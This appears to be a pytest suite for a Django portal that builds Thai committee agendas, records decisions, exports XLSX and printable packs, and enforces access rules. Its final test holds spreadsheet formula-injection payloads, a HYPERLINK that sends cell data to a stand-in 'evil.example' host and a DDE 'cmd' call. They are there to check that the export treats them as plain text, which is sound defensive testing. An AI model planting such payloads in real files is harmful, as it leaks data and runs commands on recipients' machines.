"""The ก.น.จ. agenda: endorsed requests with every duplicate flag ruled (R6), decisions per item,
and the pack as XLSX and as a printable Thai page."""

import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ministries.models import EnvelopeDraw
from portal.exceptions import ApplicationError
from portal.models import Committee
from proposals.workflow import Status
from reviews.models import AgendaItem, ProgrammeItem
from reviews.selectors import agenda_eligible_requests
from reviews.services import (
    agenda_create,
    agenda_item_add,
    agenda_item_decide,
    programme_create,
    programme_item_add,
    review_record,
)
from screening.models import DuplicateFlag
from tests.reviews.conftest import envelope, support_request, under_review

pytestmark = pytest.mark.django_db


def endorsed(people, **kwargs):
    request = under_review(people, **kwargs)
    review_record(user=people.reviewer_x, request_id=request.pk, decision="endorse")
    request.refresh_from_db()
    return request


def flag(request, other, *, state="open", level="overlap", reason=""):
    return DuplicateFlag.objects.create(
        request=request,
        other_request=other,
        level=level,
        score=0.7,
        reasons=["ตำบลเดียวกัน", "หมวดงานเดียวกัน"],
        screened_revision=request.revision,
        state=state,
        ruling_reason=reason,
    )


@pytest.fixture
def agenda(people):
    return agenda_create(
        user=people.central,
        committee=Committee.objects.get(abbreviation="ก.น.จ."),
        fiscal_year=2554,
        title="วาระการประชุม ก.น.จ. ครั้งที่ 1/2554",
    )


def test_an_unruled_flag_keeps_a_request_off_the_agenda(people, client_for, open_calendar, agenda):
    clean = endorsed(people, title="ขุดลอกหนองกองแก้ว")
    flagged = endorsed(people, title="ขุดลอกหนองกองแก้วตอนบน")
    flag(flagged, clean)  # a later screening found an overlap nobody has ruled on yet
    assert list(agenda_eligible_requests(fiscal_year=2554)) == [clean]
    page = client_for(people.central).get(reverse("reviews:agenda-detail", args=[agenda.pk])).content.decode()
    assert f'id="add-{clean.pk}"' in page and f'id="add-{flagged.pk}"' not in page
    assert "ยังเข้าวาระไม่ได้" in page and "รอการวินิจฉัยผลตรวจความซ้ำซ้อน" in page
    with pytest.raises(ApplicationError) as refused:
        agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=flagged.pk)
    assert "ยังไม่ได้วินิจฉัย" in str(refused.value.message)
    flagged.refresh_from_db()
    assert flagged.status == Status.ENDORSED and not AgendaItem.objects.filter(request=flagged).exists()


def test_once_ruled_the_request_goes_on_the_agenda_and_to_committee_review(people, open_calendar, agenda):
    clean = endorsed(people, title="ขุดลอกหนองกองแก้ว")
    flagged = endorsed(people, title="ขุดลอกหนองกองแก้วตอนบน")
    flag(flagged, clean, state="ruled_not_duplicate", reason="คนละช่วงของลำน้ำ")
    item = agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=flagged.pk)
    flagged.refresh_from_db()
    assert item.order == 1 and flagged.status == Status.COMMITTEE_REVIEW


def test_the_committee_decides_each_item(people, client_for, open_calendar, agenda):
    pot = envelope(people.ministry_x, limit="5000000")
    approve, reject, change = (
        endorsed(people, title="ขุดลอกหนองเอ"),
        endorsed(people, title="ขุดลอกหนองบี"),
        support_request(people, amount="2000000.00", title="ฟื้นฟูลำน้ำพอง"),
    )
    review_record(user=people.reviewer_x, request_id=change.pk, decision="endorse")
    items = [
        agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=r.pk) for r in (approve, reject, change)
    ]
    client = client_for(people.central)
    client.post(reverse("reviews:agenda-decide", args=[agenda.pk, items[0].pk]), {"decision": "approved"})
    client.post(
        reverse("reviews:agenda-decide", args=[agenda.pk, items[1].pk]),
        {"decision": "not_approved", "note": "ซ้ำกับแผนงานของ อปท."},
    )
    missing = client.post(
        reverse("reviews:agenda-decide", args=[agenda.pk, items[2].pk]),
        {"decision": "approved_changed_amount"},
        follow=True,
    )
    assert "ต้องระบุวงเงินที่อนุมัติ" in missing.content.decode()
    client.post(
        reverse("reviews:agenda-decide", args=[agenda.pk, items[2].pk]),
        {"decision": "approved_changed_amount", "approved_amount": "1500000"},
    )
    for r in (approve, reject, change):
        r.refresh_from_db()
    assert (approve.status, reject.status, change.status) == (Status.APPROVED, Status.NOT_APPROVED, Status.APPROVED)
    item = AgendaItem.objects.get(pk=items[2].pk)
    assert item.decision == "approved_changed_amount" and item.approved_amount == Decimal("1500000.00")
    assert EnvelopeDraw.objects.get(request=change).amount == Decimal(
        "1500000.00"
    )  # R15: the draw follows the committee
    assert pot.draws.filter(released_at__isnull=True).count() == 1


def test_a_decision_cannot_be_recorded_twice(people, open_calendar, agenda):
    request = endorsed(people)
    item = agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=request.pk)
    agenda_item_decide(user=people.central, item_id=item.pk, decision="approved")
    with pytest.raises(ApplicationError):
        agenda_item_decide(user=people.central, item_id=item.pk, decision="not_approved")


def test_the_xlsx_pack_has_the_summaries_and_one_row_per_item(people, client_for, open_calendar, agenda):
    a = endorsed(people, title="ขุดลอกหนองเอ", amount="1234567.89")
    b = endorsed(people, title="ขุดลอกหนองบี", amount="2000000.00")
    flag(b, a, state="ruled_not_duplicate", reason="คนละตำบล")
    for r in (a, b):
        agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=r.pk)
    response = client_for(people.central).get(reverse("reviews:agenda-xlsx", args=[agenda.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["สรุป", "รายการ"]
    summary = [[c for c in row] for row in book["สรุป"].iter_rows(values_only=True)]
    assert ["กลุ่มจังหวัดภาคตะวันออกเฉียงเหนือตอนกลาง", 2, 3234567.89, 3.2346, 0.0, 0.0] in [list(r[:6]) for r in summary]
    assert any(r[0] == "กระทรวงทรัพยากรธรรมชาติและสิ่งแวดล้อม" and r[1] == 2 for r in summary)
    rows = list(book["รายการ"].iter_rows(values_only=True))
    assert len(rows) == 3
    header = rows[0]
    first = dict(zip(header, rows[1]))
    assert first["เลขที่คำขอ"] == a.reference
    assert first["วงเงิน (บาท)"] == 1234567.89 and first["วงเงิน (ล้านบาท)"] == 1.2346
    assert "อนุรักษ์ฟื้นฟูทรัพยากรธรรมชาติ" in first["ประเด็นยุทธศาสตร์จังหวัด/กลุ่มจังหวัด"]
    assert "บริหารจัดการทรัพยากรน้ำ" in first["ยุทธศาสตร์กระทรวง"]
    second = dict(zip(header, rows[2]))
    assert "วินิจฉัยว่าไม่ซ้ำซ้อน (คนละตำบล)" in second["ผลตรวจความซ้ำซ้อนและการวินิจฉัย"]
    assert second["มติ"] == "รอมติ"


def test_the_printable_pack_speaks_thai_with_be_years(people, client_for, open_calendar, agenda):
    request = endorsed(people, amount="1200000000.00")
    agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=request.pk)
    body = client_for(people.central).get(reverse("reviews:agenda-print", args=[agenda.pk])).content.decode()
    assert "ปีงบประมาณ พ.ศ. 2554" in body and "1,200.00" in body and "ไม่พบความซ้ำซ้อน" in body


@pytest.mark.parametrize("who", ["planner_a", "planner_b", "reviewer_x", "reviewer_y"])
def test_others_cannot_see_or_build_an_agenda(people, client_for, agenda, who):
    client = client_for(getattr(people, who))
    assert client.get(reverse("reviews:agenda-detail", args=[agenda.pk])).status_code == 404
    assert client.get(reverse("reviews:agenda-xlsx", args=[agenda.pk])).status_code == 404
    assert client.post(reverse("reviews:agenda-add", args=[agenda.pk]), {"request_ids": [1]}).status_code == 404
    assert client.get(reverse("api:agenda-detail", args=[agenda.pk])).status_code == 403


def test_the_agenda_api_builds_and_decides(people, client_for, open_calendar):
    request = endorsed(people)
    client = client_for(people.central)
    created = client.post(
        reverse("api:agenda-list"),
        {"committee": Committee.objects.get().pk, "fiscal_year": 2554, "title": "วาระ ก.น.จ. 2/2554"},
        content_type="application/json",
    )
    assert created.status_code == 201
    agenda_id = created.json()["id"]
    assert [r["id"] for r in client.get(reverse("api:agenda-eligible", args=[agenda_id])).json()["eligible"]] == [
        request.pk
    ]
    item = client.post(
        reverse("api:agenda-items", args=[agenda_id]), {"request_id": request.pk}, content_type="application/json"
    )
    assert item.status_code == 201
    decided = client.post(
        reverse("api:agenda-item-decision", args=[agenda_id, item.json()["id"]]),
        {"decision": "approved_changed_amount", "approved_amount": "1000000"},
        content_type="application/json",
    )
    assert decided.status_code == 200 and decided.json()["status"] == Status.APPROVED
    detail = client.get(reverse("api:agenda-detail", args=[agenda_id])).json()
    assert Decimal(str(detail["summary"]["total"]["approved"])) == Decimal("1000000.00")


def test_programmes_take_endorsed_requests_and_show_on_the_request(people, client_for, open_calendar):
    request = endorsed(people)
    waiting = under_review(people, title="ขุดลอกหนองซี")
    programme = programme_create(user=people.central, name="ไทยเข้มแข็ง", fiscal_year=2554)
    programme_item_add(user=people.central, programme_id=programme.pk, request_id=request.pk)
    with pytest.raises(ApplicationError):
        programme_item_add(user=people.central, programme_id=programme.pk, request_id=waiting.pk)
    with pytest.raises(ApplicationError):
        programme_item_add(user=people.reviewer_x, programme_id=programme.pk, request_id=request.pk)
    assert ProgrammeItem.objects.filter(programme=programme).count() == 1
    page = client_for(people.reviewer_x).get(reverse("reviews:decide", args=[request.pk])).content.decode()
    assert "ไทยเข้มแข็ง" in page
    queue = client_for(people.reviewer_x).get(reverse("reviews:queue"), {"which": "all"}).content.decode()
    assert "ไทยเข้มแข็ง" in queue
    assert (
        client_for(people.planner_b)
        .post(reverse("reviews:programme-list"), {"name": "x", "kind": "programme", "fiscal_year": 2554})
        .status_code
        == 403
    )
    assert (
        client_for(people.planner_b).post(reverse("api:programme-list"), {"name": "x", "fiscal_year": 2554}).status_code
        == 403
    )
    # planner_b sees the programme but not ขอนแก่น's request inside it
    listing = (
        client_for(people.planner_b).get(reverse("reviews:programme-detail", args=[programme.pk])).content.decode()
    )
    assert "ไทยเข้มแข็ง" in listing and request.reference not in listing


def test_a_programme_item_is_reached_only_through_a_request_the_person_may_see(people, client_for, open_calendar):
    from django.http import Http404

    from reviews.selectors import access_programme_item

    request = endorsed(people)
    programme = programme_create(user=people.central, name="ไทยเข้มแข็ง", fiscal_year=2554)
    other = programme_create(user=people.central, name="แผนงานอื่น", fiscal_year=2554)
    item = programme_item_add(user=people.central, programme_id=programme.pk, request_id=request.pk)
    assert access_programme_item(user=people.central, item_id=item.pk) == item
    assert access_programme_item(user=people.reviewer_x, item_id=item.pk, programme_id=programme.pk) == item
    for persona in ("planner_b", "reviewer_y", "outsider"):
        with pytest.raises(Http404):
            access_programme_item(user=getattr(people, persona), item_id=item.pk)
    with pytest.raises(Http404):
        access_programme_item(user=people.central, item_id=item.pk, programme_id=other.pk)
    with pytest.raises(Http404):
        access_programme_item(user=people.central, item_id=item.pk + 1000)

    remove_page = reverse("reviews:programme-item-remove", args=[item.pk])
    assert client_for(people.reviewer_y).post(remove_page).status_code == 403
    assert (
        client_for(people.planner_b).delete(reverse("api:programme-item", args=[programme.pk, item.pk])).status_code
        == 403
    )
    assert client_for(people.central).delete(reverse("api:programme-item", args=[other.pk, item.pk])).status_code == 404
    assert client_for(people.central).post(remove_page).status_code == 302
    assert not ProgrammeItem.objects.filter(pk=item.pk).exists()
    assert client_for(people.central).post(remove_page).status_code == 404


def test_the_xlsx_pack_writes_formula_like_titles_and_notes_as_text(people, client_for, open_calendar, agenda):
    # issue 13 item 1: the committee's pack is opened in Excel; user text must stay text
    titles = ['=HYPERLINK("http://evil.example/?leak="&B2,"ดู")', "=cmd|' /C calc'!A0"]
    for title in titles:
        item = agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=endorsed(people, title=title).pk)
    agenda_item_decide(user=people.central, item_id=item.pk, decision="approved", note="=1+1")
    response = client_for(people.central).get(reverse("reviews:agenda-xlsx", args=[agenda.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["รายการ"]
    written = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert {t: written.get(t) for t in [*titles, "=1+1"]} == {t: "s" for t in [*titles, "=1+1"]}
